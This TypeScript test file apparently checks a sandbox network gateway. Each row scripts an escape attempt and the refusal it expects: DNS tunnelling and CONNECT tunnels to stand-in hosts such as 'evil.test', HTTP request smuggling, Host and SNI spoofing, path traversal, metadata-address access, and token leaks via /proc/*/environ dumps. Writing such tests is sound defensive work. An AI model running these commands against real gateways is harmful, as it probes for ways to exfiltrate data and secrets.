/**
 * Rows of sessions with a network: ways out other than the gateway, ways around its rules, and what a secret's placeholder
 * can be made to do (S1, S2, S4). Allowed in these sessions: good.example, *.wild.example and bound.example (which a secret
 * is bound to); api.example for GET below /ok; localhost, and the metadata address, as a careless rule would.
 */
import type { ScriptRow } from '../row.ts';

const dial = 'need node; node /mnt/attack/dial.mjs';
const get = (host: string, path: string, more = ''): string =>
  `$'GET ${path} HTTP/1.1\\r\\nHost: ${host}\\r\\n${more}Connection: close\\r\\n\\r\\n'`;
/** Refused by a reset, an end without a word, or an HTTP error of the gateway. */
const turnedAway = /error (?:ECONNRESET|EPIPE)|HTTP\/1\.1 4\d\d|connected\nended/;

const ways: ScriptRow[] = [
  {
    id: 'net.host-loopback',
    title: "the host's loopback is not the sandbox's, with a network either",
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp 127.0.0.1 "$HOST_PORT" "$NONCE"; node /mnt/attack/dial.mjs tcp ::1 "$HOST_PORT" "$NONCE"`,
    ],
    refusal: /^error ECONNREFUSED\nerror ECONNREFUSED$/,
  },
  {
    id: 'net.mapped-loopback',
    title: 'IPv6 clothes and other spellings of the loopback lead nowhere',
    promises: ['S2'],
    room: 'network',
    calls: [
      `need node; for a in ::ffff:127.0.0.1 127.1.2.3 0.0.0.0; do node /mnt/attack/dial.mjs tcp $a "$HOST_PORT" "$NONCE"; done`,
    ],
    refusal: /^(?:error ECONNREFUSED\n?){3}$/,
  },
  {
    id: 'net.metadata',
    title: 'the metadata address is refused even where a rule names it',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tcp 169.254.169.254 80 ${get('169.254.169.254', '/latest/meta-data/')}`],
    refusal: turnedAway,
    recorded: /"decision":"denied".*169\.254\.169\.254|169\.254\.169\.254.*"decision":"denied"/,
  },
  {
    id: 'net.private-address',
    title: 'a private address that nobody named is reset',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tcp 10.0.0.1 80 ${get('10.0.0.1', '/')}`],
    refusal: turnedAway,
    recorded: /"decision":"denied".*10\.0\.0\.1|10\.0\.0\.1.*"decision":"denied"/,
  },
  {
    id: 'net.rebinding',
    title: 'a permitted name that resolves to an address of the host is not dialled',
    promises: ['S2', 'S4'],
    room: 'network',
    calls: [`${dial} tcp localhost "$HOST_PORT" "$NONCE"`],
    refusal: turnedAway,
    recorded: /localhost.*not public|not public.*localhost/,
  },
  {
    id: 'net.made-up-address',
    title: 'an address of the pool that stands for no name is reset',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tcp 198.19.200.7 443 "$NONCE"`],
    refusal: turnedAway,
    recorded: /not given for any name/,
  },
  {
    id: 'net.denied-name',
    title: 'a name that no rule has gets no address',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tls other.example 443 other.example "$NONCE"`],
    refusal: /^error (?:ENOTFOUND|EREFUSED|ECONNREFUSED|ESERVFAIL|ENODATA)$/,
    recorded: /other\.example/,
  },
  {
    id: 'net.other-port',
    title: 'an allowed host is not allowed on every port',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tcp good.example 2222 "$NONCE"`],
    refusal: turnedAway,
    recorded: /"port":2222/,
  },
];

const names: ScriptRow[] = [
  {
    id: 'dns.tunnel',
    title: 'labels of a foreign name leave with no query of any type',
    promises: ['S2'],
    room: 'network',
    calls: [
      `need node; for t in A AAAA TXT MX NS CNAME SRV; do node /mnt/attack/dial.mjs resolve "$NONCE.evil.test" $t; done`,
    ],
    refusal: /^(?:error (?:ENOTFOUND|EREFUSED|ENODATA|ENOTIMP|ESERVFAIL)\n?){7}$/,
    recorded: /evil\.test.*"decision":"denied"|"decision":"denied".*evil\.test/,
  },
  {
    id: 'dns.tunnel-below-allowed',
    title: 'labels below an allowed name leave with no query',
    promises: ['S2'],
    room: 'network',
    calls: [`need node; for t in A TXT; do node /mnt/attack/dial.mjs resolve "$NONCE.good.example" $t; done`],
    refusal: /^(?:error (?:ENOTFOUND|EREFUSED|ENODATA|ENOTIMP|ESERVFAIL)\n?){2}$/,
  },
  {
    id: 'dns.other-types',
    title: 'an allowed name has an address and nothing else to ask for',
    promises: ['S2'],
    room: 'network',
    calls: [
      `need node; for t in TXT MX NS AAAA ANY; do node /mnt/attack/dial.mjs resolve good.example $t; done`,
    ],
    refusal: /^(?:error (?:ENOTFOUND|EREFUSED|ENODATA|ENOTIMP|ESERVFAIL)\n?){5}$/,
  },
  {
    id: 'dns.wildcard-labels',
    title: 'labels below a wildcard that was allowed can leave, and are seen',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tls "$NONCE.wild.example" 443 "$NONCE.wild.example" x`],
    refusal: /^error E(?:NOTFOUND|REFUSED)$/,
    recorded: /NONCE\.wild\.example/,
    least: 'detected',
  },
];

const disguises: ScriptRow[] = [
  {
    id: 'tls.other-server-name',
    title: 'the server name of somebody else, at the address of an allowed host, is reset',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tls good.example 443 "$NONCE.evil.example" ${get('good.example', '/$NONCE')}`],
    refusal: /^error ECONNRESET$/,
    recorded: /on an address of good\.example/,
  },
  {
    id: 'tls.no-server-name',
    title: 'TLS that does not say for whom it is is reset',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tls good.example 443 - "$NONCE"`],
    refusal: /^error ECONNRESET$/,
    recorded: /without a server name/,
  },
  {
    id: 'tls.not-tls',
    title: 'port 443 carries nothing but TLS',
    promises: ['S2'],
    room: 'network',
    calls: [`${dial} tcp good.example 443 "SSH-2.0-$NONCE"`],
    refusal: turnedAway,
    recorded: /"decision":"denied".*good\.example|good\.example.*"decision":"denied"/,
  },
  {
    id: 'http.other-host',
    title: 'the Host of somebody else, at the address of an allowed host, is refused',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp good.example 80 "$(printf 'GET /%s HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n' "$NONCE")
"`,
    ],
    refusal: /HTTP\/1\.1 421/,
    recorded: /another host than good\.example/,
  },
  {
    id: 'http.two-hosts',
    title: 'a request with two Hosts is refused',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp good.example 80 "$(printf 'GET /%s HTTP/1.1\\r\\nHost: good.example\\r\\nHost: other.example\\r\\n\\r\\n' "$NONCE")
"`,
    ],
    refusal: turnedAway,
    recorded: /"decision":"denied"/,
  },
  {
    id: 'http.absolute-form',
    title: 'a request to a proxy, for another host, is refused',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp good.example 80 "$(printf 'GET http://other.example/%s HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' "$NONCE")
"`,
    ],
    refusal: turnedAway,
  },
  {
    id: 'http.connect',
    title: 'CONNECT opens no tunnel through an allowed host',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp good.example 80 "$(printf 'CONNECT %s.evil.example:443 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' "$NONCE")
"`,
    ],
    refusal: turnedAway,
  },
  {
    id: 'http.smuggled',
    title: 'a second request hidden behind a body of two lengths does not leave',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp good.example 80 "$(printf 'POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /%s HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n' "$NONCE")
"`,
    ],
    refusal: turnedAway,
    recorded: /"decision":"denied"/,
  },
  {
    id: 'http.h2c',
    title: 'an upgrade to another protocol behind a decided request is not passed on',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tcp good.example 80 "$(printf 'GET /h2c HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: Upgrade, HTTP2-Settings, close\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n')
"`,
    ],
    refusal: /HTTP\/1\.1 [24]\d\d/,
    never: /HTTP\/1\.1 101/,
  },
  {
    id: 'http.fronting',
    title: 'inside TLS that ends at the gateway, another Host is refused',
    promises: ['S2'],
    room: 'network',
    calls: [
      `${dial} tls api.example 443 api.example "$(printf 'GET /ok/%s HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n' "$NONCE")
"`,
    ],
    refusal: /HTTP\/1\.1 421/,
  },
  {
    id: 'http.method',
    title: 'a method that no rule allows is refused, whatever a header renames it to',
    promises: ['S2'],
    room: 'network',
    calls: [
      `need curl; for h in X-A:b X-HTTP-Method-Override:GET; do curl -sS -m 8 -o /dev/null -w '%{http_code}\\n' -X POST -H $h -d "$NONCE" https://api.example/ok/a; done; curl -sS -m 8 -o /dev/null -w '%{http_code}\\n' -H X-HTTP-Method-Override:DELETE "https://api.example/ok/$NONCE"`,
    ],
    refusal: /^403\n403\n403$/,
  },
  {
    id: 'http.path',
    title: 'a path that can be read in two ways is refused',
    promises: ['S2'],
    room: 'network',
    calls: [
      `need curl; for p in /admin /ok/../admin /ok/%2e%2e/admin /ok/..%2fadmin '/ok/..;/admin' /ok//../admin '/ok/\\..\\admin'; do curl -sS -m 8 --path-as-is -o /dev/null -w '%{http_code} ' "https://api.example$p?$NONCE"; done`,
    ],
    refusal: /^(?:40[03] ?){7}$/,
  },
];

const shares: ScriptRow[] = [
  {
    id: 'caps.bytes',
    title: 'a host that has had its share of bytes is cut off',
    promises: ['S2', 'S4'],
    room: 'capped',
    calls: [
      `need curl; curl -sS -m 15 -o /dev/null -w '%{size_download}\\n' https://good.example/big; curl -sS -m 5 -o /dev/null "https://good.example/$NONCE" && echo "AGAIN"; echo end`,
    ],
    refusal: /\b\d{1,6}\n[\s\S]*end$/,
    never: /AGAIN/,
    recorded: /cap on bytes/,
  },
  {
    id: 'caps.connections',
    title: 'connections of one session to one host are bounded',
    promises: ['S4'],
    room: 'network',
    calls: [`${dial} many good.example 80 200`],
    refusal: /open=(?:[1-9]|[1-5]\d|6[0-4]) refused=\d+/,
    recorded: /more than 64 connections/,
  },
];

const tokens: ScriptRow[] = [
  {
    id: 'secret.inside',
    title: 'the variable holds a placeholder, and the secret is nowhere inside',
    promises: ['S1'],
    room: 'network',
    outside: 'at-rest',
    calls: [
      `echo "length=\${#ATTACK_TOKEN}"; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /etc/resolv.conf; echo end`,
    ],
    refusal: /length=[1-9]\d+[\s\S]*end/,
  },
  {
    id: 'secret.other-host',
    title: 'the placeholder for another allowed host stays a placeholder',
    promises: ['S1'],
    room: 'network',
    calls: [
      `need curl; curl -sS -m 8 -H "Authorization: Bearer $ATTACK_TOKEN" "https://good.example/$NONCE"; echo end`,
    ],
    refusal: /end$/,
    world: /good\.example/,
  },
  {
    id: 'secret.in-clear',
    title: 'over http the placeholder stays a placeholder',
    promises: ['S1'],
    room: 'network',
    calls: [
      `need curl; curl -sS -m 8 -H "Authorization: Bearer $ATTACK_TOKEN" "http://bound.example/$NONCE"; echo end`,
    ],
    refusal: /end$/,
    world: /bound\.example/,
  },
  {
    id: 'secret.in-url-and-body',
    title: 'in a URL or a body the placeholder stays a placeholder',
    promises: ['S1'],
    room: 'network',
    calls: [
      `need curl; curl -sS -m 8 -d "$ATTACK_TOKEN $NONCE" "https://bound.example/$NONCE?t=$ATTACK_TOKEN"; echo end`,
    ],
    refusal: /end$/,
    world: /bound\.example/,
  },
  {
    id: 'secret.echo',
    title: 'a host that echoes the secret, plain or in base64, cannot bring it inside',
    promises: ['S1'],
    room: 'network',
    calls: [
      `need curl; curl -sS -i -m 8 -H "Authorization: Bearer $ATTACK_TOKEN" "https://bound.example/echo/$NONCE"; curl -sS -m 8 -u "user:$ATTACK_TOKEN" "https://bound.example/echo/$NONCE"; echo end`,
    ],
    refusal: /HTTP\/\S+ 200[\s\S]*end$/,
    world: /bound\.example/,
    mayCarrySecret: true,
  },
  {
    id: 'secret.compressed-echo',
    title: 'an echo that asks for compression, or for parts, does not bring it inside',
    promises: ['S1'],
    room: 'network',
    calls: [
      `need curl; for h in 'Accept-Encoding: gzip' 'Range: bytes=0-40' 'Range: bytes=20-200'; do curl -sS --compressed -m 8 -H "$h" -H "Authorization: Bearer $ATTACK_TOKEN" "https://bound.example/echo/$NONCE"; done; echo end`,
    ],
    refusal: /end$/,
    world: /bound\.example/,
    mayCarrySecret: true,
  },
];

export const outwardRows: readonly ScriptRow[] = [...ways, ...names, ...disguises, ...shares, ...tokens];
